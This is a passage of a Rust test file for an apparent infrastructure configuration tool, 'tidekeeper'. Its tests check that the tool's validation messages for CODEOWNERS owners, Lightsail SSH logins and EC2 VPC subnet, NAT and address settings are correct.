            "fleet: test\napply:\n  apply_requirements:\n    approved: 1\n    owners:\n      - \"hosts/ @alice\"\n      - \"roles/ ops@example.com\"\n",
        )
        .fails_with(
            "tidekeeper.yaml:7:9",
            "invalid-value",
            "apply_requirements owners: owner \"ops@example.com\" of \"roles/\" is not an @login or @org/team (e-mail owners are not read)",
        );
    assert!(d.help.is_none(), "{d:?}");
    minimal()
        .file(
            "tidekeeper.yaml",
            "fleet: test\napply:\n  apply_requirements:\n    owners: []\n",
        )
        .file(
            ".github/CODEOWNERS",
            "# who owns what\n* @ops\n!hosts/ @alice\n",
        )
        .fails_with(
            ".github/CODEOWNERS:3:1",
            "invalid-value",
            "\"!hosts/\": CODEOWNERS has no negation or character ranges; write the paths out",
        );
    // Owners not asked for: the file is the forge's business, not read.
    minimal()
        .file(".github/CODEOWNERS", "!hosts/ @alice\n")
        .load()
        .expect("valid");
}

#[test]
fn a_lightsail_debian_host_logging_in_as_root_is_told_to_log_in_as_admin() {
    let ls = "fleet: test\nproviders:\n  lightsail: {region: eu-central-1}\n";
    let d = minimal()
        .file("tidekeeper.yaml", ls)
        .file(
            "hosts/web.yaml",
            "provider: lightsail\nserver:\n  bundle: small_3_0\n  blueprint: debian_12\n  zone: eu-central-1a\n",
        )
        .fails_with(
            "hosts/web.yaml:4:14",
            "wrong-login",
            "Lightsail \"debian_12\" lets the server's keys in as `admin`, not as root",
        );
    assert!(
        d.help.unwrap().contains("ssh: {user: admin, sudo: true}"),
        "the fix is named"
    );
    minimal()
        .file("tidekeeper.yaml", ls)
        .file(
            "hosts/web.yaml",
            "provider: lightsail\nssh: {user: root}\nserver: {bundle: small_3_0, blueprint: ubuntu_24_04, zone: eu-central-1a}\n",
        )
        .fails_with(
            "hosts/web.yaml:2:13",
            "wrong-login",
            "Lightsail \"ubuntu_24_04\" lets the server's keys in as `ubuntu`, not as root",
        );
    minimal()
        .file("tidekeeper.yaml", ls)
        .file(
            "hosts/web.yaml",
            "provider: lightsail\nssh: {user: admin, sudo: true}\nserver: {bundle: small_3_0, blueprint: debian_12, zone: eu-central-1a}\n",
        )
        .load()
        .expect("admin through sudo is how Lightsail's Debian is reached");
}

/// tidekeeper.yaml with EC2 and a VPC network `lab` (`extra` under it).
fn vpc_fleet(extra: &str) -> String {
    format!("{EC2_FLEET}networks:\n  lab:\n    provider: ec2\n    ip_range: 10.40.0.0/16\n{extra}")
}

/// An EC2 host in network `lab` (`at` is its `networks:` entry).
fn vpc_host(at: &str, extra: &str) -> String {
    format!(
        "provider: ec2\nssh: {{user: admin, sudo: true}}\nserver:\n  type: t3.small\n  image: ami-0abcdef1234567890\n  networks: [{at}]\n{extra}"
    )
}

#[test]
fn ec2_networks_are_vpcs_checked_where_they_are_written() {
    let lab = "    subnets: [10.40.13.0/24]\n    public_subnets: [10.40.0.0/24]\n    nat: true\n";
    // In a private subnet: reached at its private address, through the gate.
    const PRIVATE: &str = "provider: ec2\nssh: {user: admin, sudo: true, address: private, via: gate}\nserver:\n  type: t3.small\n  image: ami-0abcdef1234567890\n  networks: [ADDR]\n";
    // (Hosts on no network where the network itself is wrong.)
    const EXISTING: &str = "provider: existing\naddress: 10.213.0.2\nroles: [base]\n";
    let fleet = minimal()
        .file("tidekeeper.yaml", vpc_fleet(lab))
        .file(
            "hosts/web.yaml",
            PRIVATE.replace("ADDR", "{name: lab, ip: 10.40.13.140}"),
        )
        .file(
            "hosts/gate.yaml",
            vpc_host("{name: lab, ip: 10.40.0.10}", ""),
        )
        .file("hosts/worker.yaml", PRIVATE.replace("ADDR", "lab"))
        .load()
        .expect("valid");
    let n = &fleet.networks[0];
    assert_eq!(
        (
            n.subnets.clone(),
            n.public_subnets.clone(),
            n.nat,
            n.region.as_str()
        ),
        (
            vec!["10.40.13.0/24".to_string()],
            vec!["10.40.0.0/24".to_string()],
            true,
            "eu-central-1"
        )
    );
    let placed = |host: &str| {
        let h = fleet.hosts.iter().find(|h| h.name == host).unwrap();
        let e = h.server.as_ref().unwrap().ec2.clone().unwrap();
        (e.network_subnet, e.private_ip)
    };
    assert_eq!(
        placed("web"),
        (Some("10.40.13.0/24".into()), Some("10.40.13.140".into()))
    );
    assert_eq!(
        placed("gate"),
        (Some("10.40.0.0/24".into()), Some("10.40.0.10".into()))
    );
    assert_eq!(
        placed("worker"),
        (Some("10.40.13.0/24".into()), None),
        "the first private subnet"
    );

    let fails = |settings: &str, host: &str, at: &str, code: &str, message: &str| {
        minimal()
            .file("tidekeeper.yaml", settings)
            .file("hosts/web.yaml", host)
            .fails_with(at, code, message);
    };
    fails(
        &vpc_fleet("    subnets: [10.40.0.0/24, 10.40.0.128/25]\n"),
        EXISTING,
        "tidekeeper.yaml:8:29",
        "invalid-cidr",
        "subnet 10.40.0.128/25 overlaps subnet 10.40.0.0/24 of network lab",
    );
    fails(
        &vpc_fleet("    subnets: [10.40.13.0/29]\n"),
        EXISTING,
        "tidekeeper.yaml:8:15",
        "invalid-cidr",
        "subnet \"10.40.13.0/29\": an EC2 subnet is a network of /16 to /28",
    );
    fails(
        &vpc_fleet("    subnets: [10.40.13.0/24]\n    nat: true\n"),
        EXISTING,
        "tidekeeper.yaml:9:10",
        "invalid-value",
        "network lab: a NAT gateway lives in a public subnet, and the network has none",
    );
    fails(
        "fleet: test\nproviders:\n  hetzner: {}\n  ec2: {region: eu-central-1}\nnetworks:\n  lan:\n    ip_range: 10.0.0.0/16\n    public_subnets: [10.0.1.0/24]\n",
        "provider: hetzner\nserver: {type: cpx11, image: debian-12, location: fsn1, networks: [lan]}\nroles: [base]\n", // (no second error for the network it names)
        "tidekeeper.yaml:8:22",
        "invalid-key",
        "network lan: `public_subnets` is for EC2 networks (VPCs)",
    );
    fails(
        "fleet: test\nnetworks:\n  lab:\n    provider: ec2\n    ip_range: 10.40.0.0/16\n",
        EXISTING,
        "tidekeeper.yaml:4:15",
        "missing-key",
        "network lab is an EC2 VPC but tidekeeper.yaml has no providers.ec2",
    );
    fails(
        &vpc_fleet(lab),
        &vpc_host("lab", ""),
        "hosts/web.yaml",
        "invalid-value",
        "web is in private subnet 10.40.13.0/24, where an instance has no public address, but connects to its public address",
    );
    fails(
        &vpc_fleet(lab),
        &PRIVATE
            .replace("ADDR", "lab")
            .replace(", via: gate", "")
            .replace("  networks:", "  static_ip: true\n  networks:"),
        "hosts/web.yaml:6:14",
        "invalid-value",
        "an Elastic IP reaches an instance only through an internet gateway, and private subnet 10.40.13.0/24 has no route to one",
    );
    fails(
        &vpc_fleet(lab),
        &vpc_host("{name: lab, ip: 10.40.13.3}", ""),
        "hosts/web.yaml:6:14",
        "invalid-value",
        "10.40.13.3 is one of the five addresses AWS reserves in subnet 10.40.13.0/24 (the first four and the last)",
    );
    fails(
        &vpc_fleet(lab),
        &vpc_host("{name: lab, ip: 10.40.14.5}", ""),
        "hosts/web.yaml:6:14",
        "invalid-value",
        "\"10.40.14.5\" is not an address in network lab's subnets (10.40.13.0/24, 10.40.0.0/24)",
    );
    fails(
        &vpc_fleet(lab),
        &vpc_host(
            "{name: lab, ip: 10.40.0.10}",
            "  subnet: subnet-0123456789abcdef0\n",
        ),
        "hosts/web.yaml:7:11",
        "invalid-key",
        "`subnet` and `networks` both place the instance; in network lab it gets its subnet from tidekeeper.yaml",
    );
    fails(
        &format!(
            "{}    subnets: [10.40.13.0/24]\n  lan:\n    ip_range: 10.0.0.0/16\n",
            vpc_fleet("")
        ),
        &vpc_host("lan", ""),
        "hosts/web.yaml:6:14",
        "invalid-value",
        "network lan belongs to provider hetzner; a server on ec2 cannot join it",
    );
    // What EC2 would refuse, or never converge on.
    fails(
        "fleet: test\nproviders:\n  ec2: {region: eu-central-1}\nnetworks:\n  lab:\n    provider: ec2\n    ip_range: 10.40.0.5/16\n",
        EXISTING,
        "tidekeeper.yaml:7:15",
        "invalid-cidr",
        "network lab: 10.40.0.5/16 has host bits set; a VPC's range is a network such as 10.40.0.0/16",
    );
    fails(
        &vpc_fleet("    public_subnets: [10.40.0.0/24]\n    nat: true\n"),
        EXISTING,
        "tidekeeper.yaml:9:10",
        "invalid-value",
        "network lab: a NAT gateway is the private subnets' way out, and the network has none",
    );
    fails(
        &vpc_fleet("    subnets: [10.40.13.0/24]\n    reserved: [10.40.13.7]\n"),
        EXISTING,
        "tidekeeper.yaml:9:16",
        "invalid-key",
        "network lab: `reserved` is for Hetzner networks; EC2 keeps an address only for the instance that asks for it",
    );
    fails(
        &vpc_fleet("    zone: us-east-1a\n"),
        EXISTING,
        "tidekeeper.yaml:8:11",
        "invalid-value",
        "network lab: zone \"us-east-1a\" is not in region eu-central-1",
    );
    fails(
        &vpc_fleet(lab),
        &vpc_host("{name: lab, ip: 10.40.0.10/32}", ""),
        "hosts/web.yaml:6:14",
        "invalid-value",
        "\"10.40.0.10/32\" is not an address in network lab's subnets (10.40.13.0/24, 10.40.0.0/24)",
    );
    fails(
        &vpc_fleet(lab),
        &vpc_host("{name: lab, ip: 10.40.0.254}", ""),
        "hosts/web.yaml:6:14",
        "invalid-value",
        "10.40.0.254 is the address of network lab's NAT gateway",
    );
}
